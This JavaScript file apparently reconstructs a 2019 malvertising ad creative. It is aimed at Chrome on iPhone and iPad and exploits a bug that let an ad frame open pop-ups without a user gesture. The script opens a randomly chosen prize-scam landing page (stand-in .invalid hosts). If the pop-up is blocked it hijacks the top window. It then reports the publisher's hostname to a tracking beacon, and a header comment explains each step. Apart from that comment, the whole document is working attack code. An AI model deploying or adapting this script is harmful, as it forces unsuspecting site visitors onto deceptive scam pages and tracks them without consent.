// The April 2019 creative, served inside a cross-origin ad frame: it targets Chrome on iOS,
// where a bug let a frame open a pop-up without any user gesture, so the ad opens the
// landing page of a rotating ".world"-style domain (here .invalid) in a pop-up straight
// away and, if the blocker still wins, sends the top window there instead. The visitor is
// counted once a day with a cookie and the landing page gets the placement in its query.
(function () {
  var ua = navigator.userAgent;
  if (!/CriOS/.test(ua) || !/iPhone|iPad|iPod/.test(ua)) return;
  if (document.cookie.indexOf("_egb=") > -1) return;
  var exp = new Date(Date.now() + 864e5).toUTCString();
  document.cookie = "_egb=1; expires=" + exp + "; path=/; SameSite=None; Secure";
  var hosts = ["giftpromo-win.invalid", "prize-hub-now.invalid", "reward-claim-24.invalid"];
  var h = hosts[Math.floor(Math.random() * hosts.length)];
  var pub = "";
  try { pub = top.location.hostname; } catch (e) { pub = (document.referrer.split("/")[2] || ""); }
  var landing = "https://" + h + "/lp/ios/?cid=egb719&pub=" + encodeURIComponent(pub) + "&t=" + Date.now();
  var w = null;
  try { w = window.open(landing, "_blank"); } catch (e) {}
  if (!w || w.closed || typeof w.closed === "undefined") {
    setTimeout(function () {
      try { window.top.location.href = landing; } catch (e) { location.href = landing; }
    }, 300);
  }
  var img = new Image();
  img.src = "https://stats.adcdn-track.invalid/i.gif?c=egb719&p=" + encodeURIComponent(pub) + "&ok=" + (w ? 1 : 0);
})();
